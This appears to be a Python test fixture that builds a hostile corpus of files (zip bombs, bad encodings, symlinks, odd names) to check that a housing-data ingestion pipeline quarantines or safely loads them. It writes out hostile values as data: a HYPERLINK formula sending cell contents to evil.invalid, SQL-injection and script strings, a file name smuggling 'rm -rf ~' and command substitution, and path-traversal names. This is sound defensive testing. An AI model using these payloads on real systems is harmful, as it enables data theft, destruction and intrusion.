"""The hostile corpus: files a department (or an attacker posing as one) may drop into landing/.

Each Case is one landing entry with the outcome EXPORTS.md owes it and a fragment of the reason
the pipeline must record (quality.files.reason for a quarantined file, the rule in quality.rejects
for rejected rows, the warning in quality.warnings, the first file's name for a duplicate), and,
where the outcome alone proves little, a check of what really happened (rows loaded, text kept
byte for byte, formula cells neutralised in the district extracts, nothing executed).

Files that load are ledger kinds only: a snapshot would replace the sample's current list. Their
estates and districts are the sample city's, so their rows reach the marts and the extracts.
"""

from __future__ import annotations

import csv
import io
import os
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd

from drills import xlsx_bytes

LOADED = "loaded"
LOADED_WITH_REJECTS = "loaded-with-rejects"
QUARANTINED = "quarantined"
DUPLICATE = "duplicate"

MIB = 1 << 20
EXCEL_ROWS = 1_048_576
STAMP = "20261031"  # the sample's last export date: the corpus's ledger files state it in their names

WORK_ORDER = ["工单编号", "来电时间", "所属区县", "事发地址", "诉求类型", "诉求子类", "诉求内容", "工单状态", "更新时间"]
USAGE = ["小区名称", "项目名称", "使用金额(元)", "表决通过日期"]
REGISTER = ["小区编码", "小区名称", "区县代码", "街道代码", "建成年份"]
DWELLINGS = ["房源编号", "小区名称", "楼栋", "单元", "房号", "建筑面积（㎡）", "分配状态"]
ROSTER = ["户编号", "姓名", "身份证号码", "安置小区", "安置房号"]

# Text a spreadsheet would run as a formula, and text that looks like markup or SQL: all of it
# must load exactly as written.
FORMULAS = ['=HYPERLINK("http://evil.invalid/?q="&A1,"点击查看")', "+SUM(1,1)", "-2+3", "@SUM(A1:A9)"]
MARKUP = ["<script>alert('安居')</script>", "'; DROP TABLE raw.work_order; --", "Robert'); DROP TABLE quality.files;--"]
SHELL_NAME = "维修资金使用公示 $(touch PWNED); rm -rf ~ `touch PWNED` '\"; DROP TABLE quality.files; -- " + STAMP + ".csv"
PWNED = "PWNED"  # what the shell-character file name would create if anything ran it
FORGED_LINE = "  ACCEPTED     伪造的一行"  # what a line break in a name would add to `anju run`'s summary
TEN_MIB_TEXT = "楼上漏水" + "x" * (10 * MIB)  # nothing that NFKC would change


@dataclass(frozen=True)
class City:
    """The sample city's names, so that the corpus's rows land in real estates and districts."""

    district: str
    estates: tuple[str, ...]
    estate_code: str
    district_code: str
    street_code: str


@dataclass
class Case:
    source: str
    name: str  # may hold surrogate escapes: a name whose bytes are not UTF-8
    what: str  # what the file is, for the table
    expected: str
    reason: str  # fragment of the recorded reason ("" for a clean load)
    write: Callable[[Path], None]
    batch: int = 1  # 1: there when `anju run` starts; 2: arrives later, read by a sensor's run
    rows_loaded: int | None = None
    huge: bool = False  # the million-row files: only in the command, not in the test
    checks: list[str] = field(default_factory=list)  # names of the drill's extra checks


def city_of(home: Path) -> City:
    """The first district of the generated sample and its estates (from the generator's truth)."""
    world = home / "truth" / "world"
    estates = pd.read_parquet(world / "estates.parquet").sort_values("estate_code")
    districts = pd.read_parquet(world / "districts.parquet").set_index("district_code")["district_name"]
    first = estates.iloc[0]
    mine = estates[estates["district_code"] == first["district_code"]]
    return City(str(districts[first["district_code"]]), tuple(mine["estate_name"]), str(first["estate_code"]),
                str(first["district_code"]), str(first["street_code"]))


# ---------------------------------------------------------------- file contents


def csv_bytes(header: list[str], rows: list[list[str]], encoding: str = "utf-8", newline: str = "\r\n") -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator=newline)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode(encoding)


def usage_rows(city: City, label: str, n: int) -> list[list[str]]:
    """n distinct 维修资金使用公示 rows (the key is estate + project + date, so none is a duplicate)."""
    return [[city.estates[i % len(city.estates)], f"{label}第{i + 1}项", f"{1000 + i % 997}.50", f"2026-{1 + i % 10:02d}-{1 + i % 28:02d}"]
            for i in range(n)]


def work_orders(city: City, order_nos: list[str], subtypes: list[str], contents: list[str]) -> list[list[str]]:
    """Open 12345 orders (已受理) in the city's first estate: they reach the 未办结投诉 extract."""
    return [[order_no, "2026-10-20 09:00:00", city.district, f"{city.estates[0]}3栋2单元", "物业服务", subtype, content,
             "已受理", "2026-10-20 09:30:00"] for order_no, subtype, content in zip(order_nos, subtypes, contents)]


def orders_of(city: City, prefix: str, n: int, contents: list[str] | None = None) -> list[list[str]]:
    return work_orders(city, [f"{prefix}{i + 1:04d}" for i in range(n)], ["噪音"] * n, contents or ["楼上噪音"] * n)


def orders_written_as(city: City, values: list[str]) -> list[list[str]]:
    """Orders whose 工单编号, 诉求子类 and 诉求内容 are each one of `values`, as written."""
    return work_orders(city, values, values, values)


def gbk_usage_with_undecodable(city: City, label: str, rows: int, bad_rows: set[int]) -> bytes:
    """A GBK 维修资金使用公示 whose bad rows hold a byte pair that is no GBK character (0x81 0x20)."""
    lines = [",".join(USAGE).encode("gbk")]
    for i, row in enumerate(usage_rows(city, label, rows)):
        cells = [cell.encode("gbk") for cell in row]
        if i in bad_rows:
            cells[1] += b"\x81\x20"
        lines.append(b",".join(cells))
    return b"\r\n".join(lines) + b"\r\n"


def zip_of(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries.items():
            z.writestr(zipfile.ZipInfo(name, (2026, 10, 31, 0, 0, 0)), data)
    return buffer.getvalue()


def small_xlsx(path: Path, header: list[str], rows: list[list[str]], titles: list[str] = ()) -> Path:
    sheet = [xlsx_bytes.row_xml(i + 1, [t]) for i, t in enumerate(titles)]
    sheet += [xlsx_bytes.row_xml(len(titles) + 1 + i, r) for i, r in enumerate([header, *rows])]
    return xlsx_bytes.write_xlsx(path, sheet)


def million_row_xlsx(city: City, path: Path) -> None:
    """The header and 1,048,575 rows: a sheet filled to Excel's last row."""
    rows = usage_rows(city, "满表", EXCEL_ROWS - 1)
    xlsx_bytes.write_xlsx(path, (xlsx_bytes.row_xml(i + 1, r) for i, r in enumerate([USAGE, *rows])))


def xlsx_with_cells(path: Path, header: list[str], rows: list[list[str]], cells: dict[tuple[int, int], Callable]) -> None:
    """A one-sheet workbook of text rows under the header, but for `cells`: (data row, column) →
    how xlsxwriter writes that cell (a number, a formula saved as an error)."""
    import xlsxwriter

    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, header)
    for i, row in enumerate(rows):
        sheet.write_row(i + 1, 0, row)
    for (row, column), write in cells.items():
        write(sheet, row + 1, column)
    book.close()


def corner_cells_xlsx(path: Path, with_references: bool) -> None:
    """Two cells, at A1 and at XFD1048576: a few hundred bytes that span the whole sheet."""
    far = (f'<row r="{EXCEL_ROWS}"><c r="XFD{EXCEL_ROWS}" t="inlineStr"><is><t>远</t></is></c></row>' if with_references
           # Without references a cell's column is its position in the row: 16,384 cells, one of them filled.
           else f'<row r="{EXCEL_ROWS}">' + "<c/>" * 16_383 + '<c t="inlineStr"><is><t>远</t></is></c></row>')
    xlsx_bytes.write_xlsx(path, [xlsx_bytes.row_xml(1, USAGE), far])


def _bytes(data: bytes | Callable[[], bytes]) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        path.write_bytes(data() if callable(data) else data)

    return write


def _symlink(target: Path) -> Callable[[Path], None]:
    return lambda path: path.symlink_to(target)


def _copy_of(other: Path) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(other.read_bytes())


# ---------------------------------------------------------------- the corpus


def build(city: City, landing: Path, outside: Path) -> list[Case]:
    """Every case, in the order of the table. `outside` is a folder beside landing/ for link targets."""
    register_row = [city.estate_code, city.estates[0], city.district_code, city.street_code, "2010"]
    register_outside = outside / "安置小区名录_landing之外.csv"
    def xlsx_bytes_of(label: str) -> bytes:
        scratch = outside / f"{label}.xlsx"
        return small_xlsx(scratch, USAGE, usage_rows(city, label, 3)).read_bytes()

    def truncated() -> bytes:
        body = csv_bytes(WORK_ORDER, orders_of(city, "TR", 5))
        last_line = body.rstrip(b"\r\n").rfind(b"\r\n") + 2
        return body[: body.index(b",", body.index(b",", last_line) + 1)]  # two fields into the last row

    def wide_header() -> bytes:
        return csv_bytes(REGISTER + [f"备用字段{i}" for i in range(600 - len(REGISTER))], [register_row + [""] * (600 - len(REGISTER))])

    def wide_row() -> bytes:
        rows = usage_rows(city, "超宽行", 20)
        rows[10] = rows[10] + ["多余"] * 100_000  # 100,000 fields in one row, the header has 4
        return csv_bytes(USAGE, rows)

    cases = [
        # EXPORTS.md, mess item 13: whole-file faults.
        Case("household", f"安置人员花名册_空文件_{STAMP}.csv", "empty file", QUARANTINED, "empty file", _bytes(b"")),
        Case("unit", f"安置房源台账_仅表头_{STAMP}.csv", "header only (CSV)", QUARANTINED, "header only", _bytes(csv_bytes(DWELLINGS, []))),
        Case("fund", f"维修资金使用公示_仅表头_{STAMP}.xlsx", "header only (XLSX, with title rows)", QUARANTINED, "header only",
             lambda p: small_xlsx(p, USAGE, [], titles=["维修资金使用公示", f"截至{STAMP}"])),
        Case("household", f"安置人员花名册_仅标题_{STAMP}.xlsx", "title rows only", QUARANTINED, "no header row of a known file kind",
             lambda p: xlsx_bytes.write_xlsx(p, [xlsx_bytes.row_xml(1, ["江城市安置人员花名册"]), xlsx_bytes.row_xml(2, ["填报单位：征收安置办"])])),
        Case("complaint", f"12345工单明细_{STAMP}_传输中断.csv", "truncated mid-row", QUARANTINED, "truncated file", _bytes(truncated)),
        Case("complaint", f"12345工单明细_缺工单编号_{STAMP}.csv", "required column missing", QUARANTINED, "required column missing: 工单编号",
             _bytes(lambda: csv_bytes(WORK_ORDER[1:], [r[1:] for r in orders_of(city, "NK", 1)]))),
        Case("facility", f"设施设备台账_{STAMP}.xls", ".xls (OLE2)", QUARANTINED, "content is legacy Office",
             _bytes(bytes.fromhex("D0CF11E0A1B11AE1") + bytes(504))),
        Case("engagement", f"居民参与记录说明_{STAMP}.docx", ".docx", QUARANTINED, "content is docx",
             _bytes(zip_of({"[Content_Types].xml": b"<Types/>", "word/document.xml": "<w:document>说明</w:document>".encode()}))),
        Case("fund", f"维修资金使用公示_{STAMP}.zip", ".zip whose member is named ../../../tmp/evil.csv", QUARANTINED, "content is zip archive",
             _bytes(lambda: zip_of({"../../../tmp/evil.csv": csv_bytes(USAGE, usage_rows(city, "压缩包", 2))}))),
        # EXPORTS.md, "Limits and edge cases": the format is what the bytes are.
        Case("fund", f"维修资金使用公示_{STAMP}_实为xlsx.csv", ".csv that is XLSX", QUARANTINED,
             "extension .csv does not match the content, which is xlsx", _bytes(lambda: xlsx_bytes_of("实为xlsx"))),
        Case("facility", f"维修资金使用公示_{STAMP}_实为文本.xlsx", ".xlsx that is text", QUARANTINED,
             "extension .xlsx does not match the content, which is text", _bytes(lambda: csv_bytes(USAGE, usage_rows(city, "实为文本", 2)))),
        Case("complaint", f"12345工单明细{STAMP}", "no extension", QUARANTINED, "extension '(none)'",
             _bytes(lambda: csv_bytes(WORK_ORDER, orders_of(city, "NE", 1)))),
        Case("fund", f"维修资金使用公示_{STAMP}.txt", "another extension (.txt, CSV inside)", QUARANTINED, "extension '.txt'",
             _bytes(lambda: csv_bytes(USAGE, usage_rows(city, "文本扩展名", 2)))),
        Case("fund", f"维修资金使用公示_{STAMP}.pdf", "another extension (.pdf)", QUARANTINED, "content is PDF", _bytes(b"%PDF-1.7\n%\xe2\xe3\n")),
        Case("unit", f"安置小区名录_{STAMP}_链接.csv", "symbolic link to a valid file outside landing/", QUARANTINED, "symbolic link: not read",
             _symlink(register_outside), checks=["link_not_followed"]),
        Case("unit", f"安置小区名录_{STAMP}_断链.csv", "dangling symbolic link", QUARANTINED, "symbolic link: not read",
             _symlink(outside / "不存在.csv")),
        Case("household", f"安置人员花名册_{STAMP}_目录.csv", "a directory", QUARANTINED, "not a regular file", lambda p: p.mkdir()),
        Case("household", f"安置人员花名册_{STAMP}_管道.csv", "a named pipe (FIFO): reading it would block", QUARANTINED, "not a regular file",
             lambda p: os.mkfifo(p)),
        Case("household", f"安置人员花名册_{STAMP}.csv", "UTF-16 text (Excel's 'Unicode text')", QUARANTINED, "UTF-16",
             _bytes(lambda: csv_bytes(ROSTER, [["H1", "张伟", "11010519491231002X", city.estates[0], "1-1-101"]], encoding="utf-16"))),
        Case("fund", f"维修资金使用公示_{STAMP}_乱码.csv", "random bytes", QUARANTINED, "content, which is binary data", _bytes(random.Random(7).randbytes(64 * 1024))),
        # Size limits.
        Case("fund", f"物业费收缴明细_{STAMP}_炸弹.xlsx", "zip bomb: 3 MB, sheet expands to 3 GiB", QUARANTINED, "would expand to 3.0 GiB",
             lambda p: xlsx_bytes.write_bomb(p, 3 << 30)),
        Case("fund", f"物业费收缴明细_{STAMP}_谎报大小.xlsx", "zip bomb whose headers claim 64 KiB (expands to 1 GiB)", QUARANTINED,
             "cannot be read", lambda p: xlsx_bytes.write_bomb(p, 1 << 30, declared_bytes=64 * 1024)),
        Case("fund", f"维修资金使用公示_{STAMP}_对角.xlsx", "two cells at A1 and XFD1048576 (dense: 17 billion cells)", QUARANTINED,
             "16,384 columns", lambda p: corner_cells_xlsx(p, with_references=True)),
        Case("fund", f"维修资金使用公示_{STAMP}_对角无引用.xlsx", "the same, cells without references", QUARANTINED, "16,384 columns",
             lambda p: corner_cells_xlsx(p, with_references=False)),
        Case("fund", f"维修资金使用公示_{STAMP}_损坏.xlsx", "XLSX cut in half (damaged zip)", QUARANTINED, "damaged zip archive",
             _bytes(lambda: (b := xlsx_bytes_of("损坏"))[: len(b) // 2])),
        Case("fund", f"维修资金使用公示_{STAMP}_坏XML.xlsx", "XLSX whose sheet XML is broken", QUARANTINED, "cannot be read",
             lambda p: xlsx_bytes.write_xlsx(p, ['<row r="1"><c r="A1" t="inlineStr"><is><t>小区名称</t></is></c><c r="B1"'])),
        Case("unit", f"安置小区名录_{STAMP}_600列.csv", "header of 600 columns", QUARANTINED, "more than 500 columns", _bytes(wide_header)),
        Case("fund", f"维修资金使用公示_{STAMP}_超宽行.csv", "one data row of 100,004 fields", LOADED_WITH_REJECTS, "more than 500 fields",
             _bytes(wide_row), rows_loaded=19),
        Case("complaint", f"12345工单明细_{STAMP}_10MB.csv", "a 10 MiB field (loads)", LOADED, "",
             _bytes(lambda: csv_bytes(WORK_ORDER, orders_of(city, "BIG", 1, [TEN_MIB_TEXT]))), rows_loaded=1,
             checks=["ten_mib_field"]),
        Case("complaint", f"12345工单明细_{STAMP}_17MB.csv", "a 17 MiB field (rejects its row)", LOADED_WITH_REJECTS, "a field longer than 16 MiB",
             _bytes(lambda: csv_bytes(WORK_ORDER, orders_of(city, "HUGE", 2, ["x" * (17 * MIB), "楼上噪音"]))), rows_loaded=1),
        # Encodings and bytes.
        Case("fund", f"维修资金使用公示_{STAMP}_NUL.csv", "NUL bytes inside fields", LOADED, "NUL byte removed",
             _bytes(lambda: csv_bytes(USAGE, [[r[0], r[1].replace("第", "第\x00"), r[2], r[3]] for r in usage_rows(city, "空字节", 3)])), rows_loaded=3),
        Case("fund", f"维修资金使用公示_{STAMP}_CR.csv", "CR-only line endings", LOADED, "",
             _bytes(lambda: csv_bytes(USAGE, usage_rows(city, "回车", 3), newline="\r")), rows_loaded=3),
        Case("fund", f"维修资金使用公示_{STAMP}_BOM.csv", "a byte-order mark in the middle", LOADED, "byte-order mark",
             _bytes(lambda: csv_bytes(USAGE, [["\ufeff" + r[0]] + r[1:] if i == 1 else r for i, r in enumerate(usage_rows(city, "字节序", 3))])),
             rows_loaded=3),
        Case("fund", f"维修资金使用公示_{STAMP}_GBK_3坏行.csv", "GBK, 3 of 50 rows undecodable (6%)", QUARANTINED,
             "3 of 50 rows hold undecodable bytes", _bytes(lambda: gbk_usage_with_undecodable(city, "乱码多", 50, {3, 20, 40}))),
        Case("fund", f"维修资金使用公示_{STAMP}_GBK_1坏行.csv", "GBK, 1 of 200 rows undecodable (0.5%)", LOADED_WITH_REJECTS,
             "undecodable bytes (encoding)", _bytes(lambda: gbk_usage_with_undecodable(city, "乱码少", 200, {100})), rows_loaded=199),
        Case("fund", f"维修资金使用公示_{STAMP}_控制符.csv", "a vertical tab and a ^A inside fields (text, not binary)", LOADED, "",
             _bytes(lambda: csv_bytes(USAGE, [[r[0], r[1].replace("第", "第\x0b" if i else "第\x01"), r[2], r[3]]
                                              for i, r in enumerate(usage_rows(city, "控制符", 3))])), rows_loaded=3),
        # Values a spreadsheet changed, and units.
        # One bad row in 20: a larger share of a required column blocks publication (pipelines/warehouse/gate.py).
        Case("complaint", f"12345工单明细_{STAMP}_长数字.xlsx", "a 16-digit 工单编号 stored as a number (digits lost)", LOADED_WITH_REJECTS,
             "number in scientific notation", lambda p: xlsx_with_cells(p, WORK_ORDER, orders_of(city, "LONG", 20), {
                 (0, 0): lambda sheet, r, c: sheet.write_number(r, c, 2026103100000001),
                 (1, 0): lambda sheet, r, c: sheet.write_number(r, c, 202610310000002)}), rows_loaded=19),
        Case("fund", f"维修资金使用公示_{STAMP}_公式错误.xlsx", "使用金额 a formula saved as #DIV/0!", LOADED_WITH_REJECTS,
             "unparseable amount", lambda p: xlsx_with_cells(p, USAGE, usage_rows(city, "公式错误", 20), {
                 (1, 2): lambda sheet, r, c: sheet.write_formula(r, c, "=1/0", None, "#DIV/0!")}), rows_loaded=19),
        Case("fund", f"维修资金使用公示_{STAMP}_万元.csv", "使用金额（万元）: amounts in units of 10,000 yuan", LOADED, "",
             _bytes(lambda: csv_bytes(["小区名称", "项目名称", "使用金额（万元）", "表决通过日期"], usage_rows(city, "万元", 3))), rows_loaded=3),
        # Size: rows.
        Case("fund", f"维修资金使用公示_{STAMP}_百万行.csv", "CSV of 1,048,576 rows (header + 1,048,576)", LOADED, "",
             _bytes(lambda: csv_bytes(USAGE, usage_rows(city, "百万行", EXCEL_ROWS), newline="\n")), rows_loaded=EXCEL_ROWS, huge=True),
        Case("fund", f"维修资金使用公示_{STAMP}_满表.xlsx", "XLSX at the sheet limit (header + 1,048,575)", LOADED, "",
             lambda p: million_row_xlsx(city, p), rows_loaded=EXCEL_ROWS - 1, huge=True),
        # Text is data.
        Case("complaint", f"12345工单明细_{STAMP}_公式.csv", "cells starting with = + - @ (formula injection)", LOADED, "",
             _bytes(lambda: csv_bytes(WORK_ORDER, orders_written_as(city, FORMULAS))), rows_loaded=4, checks=["formulas"]),
        Case("complaint", f"12345工单明细_{STAMP}_脚本与SQL.csv", "<script> and '; DROP TABLE text", LOADED, "",
             _bytes(lambda: csv_bytes(WORK_ORDER, orders_written_as(city, MARKUP))),
             rows_loaded=3, checks=["markup"]),
        Case("fund", f"维修资金使用公示_{STAMP}_换行\n{FORGED_LINE}.csv", "name with a line break, read by `anju run`", LOADED, "",
             _bytes(lambda: csv_bytes(USAGE, usage_rows(city, "换行一", 2))), rows_loaded=2, checks=["summary_not_forged"]),
        # Names. They arrive after the first run: a sensor sees them, and its run carries them in its config.
        Case("fund", f"..%2F..%2F..%2Fetc%2Fcron.d%2F维修资金使用公示_{STAMP}.csv", "name ..%2F..%2F (URL-encoded ../), leading dot",
             LOADED, "", _bytes(lambda: csv_bytes(USAGE, usage_rows(city, "点点斜杠", 2))), batch=2, rows_loaded=2),
        Case("fund", f"..\\..\\..\\Windows\\System32\\维修资金使用公示_{STAMP}.csv", "name ..\\..\\ (a Windows path)", LOADED, "",
             _bytes(lambda: csv_bytes(USAGE, usage_rows(city, "反斜杠", 2))), batch=2, rows_loaded=2),
        Case("fund", SHELL_NAME, "name with $(…), ;, backticks, quotes, spaces", LOADED, "",
             _bytes(lambda: csv_bytes(USAGE, usage_rows(city, "命令注入", 2))), batch=2, rows_loaded=2, checks=["nothing_ran"]),
        Case("fund", f"-rf --help 维修资金使用公示_{STAMP}.csv", "name starting with a dash (an option)", LOADED, "",
             _bytes(lambda: csv_bytes(USAGE, usage_rows(city, "破折号", 2))), batch=2, rows_loaded=2),
        Case("fund", f"维修资金使用公示_{STAMP}\n{FORGED_LINE}.csv", "name with a line break, read by a sensor's run", LOADED, "",
             _bytes(lambda: csv_bytes(USAGE, usage_rows(city, "换行", 2))), batch=2, rows_loaded=2),
        Case("fund", os.fsdecode(f"维修资金使用公示_GBK文件名_{STAMP}.csv".encode("gbk")), "name in GBK bytes (not UTF-8)", LOADED, "",
             _bytes(lambda: csv_bytes(USAGE, usage_rows(city, "国标文件名", 2))), batch=2, rows_loaded=2),
        Case("complaint", f"12345工单明细_{STAMP}_公式(重发).csv", "same bytes as the formula file, another name", DUPLICATE,
             f"12345工单明细_{STAMP}_公式.csv", _copy_of(landing / "complaint" / f"12345工单明细_{STAMP}_公式.csv"), batch=2,
             checks=["not_counted_twice"]),
    ]
    register_outside.parent.mkdir(parents=True, exist_ok=True)
    register_outside.write_bytes(csv_bytes(REGISTER, [register_row]))
    return cases
